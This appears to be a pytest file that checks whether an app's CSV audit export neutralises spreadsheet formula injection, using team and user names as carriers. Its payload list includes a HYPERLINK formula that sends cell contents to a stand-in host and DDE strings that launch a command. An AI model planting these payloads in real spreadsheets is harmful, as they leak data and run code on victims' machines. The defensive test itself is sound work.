"""What is taken along opens in a spreadsheet: whatever things are called, nothing is computed."""

import csv
import io

import pytest
from tests.builders import Browser, data

FORMULAS = (
    '=HYPERLINK("http://canary.example/?"&A1,"here")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "＝1+1",  # noqa: RUF001 - what spreadsheets take for a sign
)


@pytest.mark.parametrize("formula", FORMULAS)
async def test_a_name_is_no_formula_in_what_is_taken_along(ada: Browser, formula: str) -> None:
    team = await ada.post("/api/teams", {"name": formula})
    assert team.status_code == 201, team.text
    await ada.patch("/api/auth/me", {"firstName": formula, "lastName": formula})
    await ada.patch(f"/api/teams/{data(team)['id']}", {"description": formula})
    answer = await ada.get("/api/audit/export?format=csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]  # noqa: RUF001
    names = {row[rows[0].index("entityName")] for row in rows[1:]}
    assert f"'{formula}" in names
